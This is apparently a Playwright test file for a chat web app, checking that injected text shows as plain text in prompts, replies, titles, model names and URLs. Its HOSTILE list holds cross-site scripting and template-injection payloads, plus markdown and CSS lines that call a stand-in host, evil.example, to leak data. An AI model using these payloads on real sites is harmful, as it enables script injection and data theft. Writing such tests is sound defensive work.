"""Hostile text in every place where text appears: it is shown, and nothing runs or loads.

That no script ran, no policy was broken and nothing was asked of another host is checked at the
end of every test by the `page` fixture.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from engine.base import EngineInfo
from tests.browser.conftest import ask, settle
from tests.browser.site import Site

pytestmark = pytest.mark.browser

HOSTILE = [
    "${print(1)}",
    "`${print(1)}` {{value}} {{{value}}} ${alert`1`}",
    "`+print(1)+` \\`;print(1);//",
    "<img src=x onerror=print(1)>",
    "</div><script>print(1)</script><svg/onload=print(1)>",
    '" onmouseover="print(1)" autofocus onfocus="print(1)',
    "<style>*{background:url(//evil.example/x)}</style>",
    "![x](http://evil.example/?d=secret) ![y](/gradio_api/file=http://evil.example/)",
    "[x](javascript:print(1)) <a href=javascript:print(1)>x</a>",
    "<iframe srcdoc='<script>parent.print(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=print(1)>",
    r"\(\href{javascript:print(1)}{x}\) $\style{background:url(//evil.example)}{x}$",
]


def test_in_prompt_reply_title_and_search(page: Page) -> None:
    for place, text in enumerate(HOSTILE):
        ask(page, f"findme {text}")
        assert page.locator("#window .bubble").nth(place).inner_text() == f"findme {text}"
    assert page.locator("#head h1").inner_text().startswith("findme ${print(1)}")
    for query in ["findme", *HOSTILE]:
        page.fill("#find", query[:200])
        page.wait_for_timeout(250)
    page.fill("#find", "findme")
    expect(page.locator("#listing .hit").first).to_be_visible()
    page.reload()
    expect(page.locator("#window .bubble")).to_have_count(len(HOSTILE))
    shown = page.locator("#window .bubble").all_inner_texts()
    assert shown == [f"findme {text}" for text in HOSTILE]


def test_in_a_growing_reply(page: Page, site: Site) -> None:
    site.engine.pause_after = 25
    site.engine.say = {"go": "\n\n".join(HOSTILE) + "\n\n```js\n" + "\n".join(HOSTILE) + "\n```\n"}
    ask(page, "go", wait=False)
    expect(page.locator("#live .md")).to_contain_text("${print(1)}")
    site.engine.go.set()
    settle(page)
    code = page.locator("#window figure.code code")
    assert code.text_content() == "\n".join(HOSTILE) + "\n"
    page.click("#window [data-act=copy-code]")
    assert page.evaluate("navigator.clipboard.readText()") == "\n".join(HOSTILE) + "\n"


def test_in_a_new_title(page: Page) -> None:
    ask(page, "hello")
    for text in HOSTILE:
        page.click("#head [data-act=rename]")
        page.fill("#head input.rename", text)
        page.press("#head input.rename", "Enter")
        expect(page.locator("#listing .conv .name")).to_have_text(" ".join(text.split()))


def test_in_the_name_of_a_model(page: Page, site: Site) -> None:
    name = " ".join(HOSTILE)
    info = EngineInfo(name, "print", "none", 0, 4096, name, name, note=name)
    site.engine.info = lambda: info  # type: ignore[method-assign]
    page.reload()
    expect(page.locator(".footing b")).to_have_text(name)


def test_in_the_address(page: Page, site: Site) -> None:
    page.goto(f"{site.url}?c=%24%7Bprint(1)%7D%3Cimg%20src=x%20onerror=print(1)%3E")
    expect(page.locator("#note .toast.error")).to_be_visible()
    page.click("[data-act=new]")
    expect(page.locator("#window .empty")).to_be_visible()
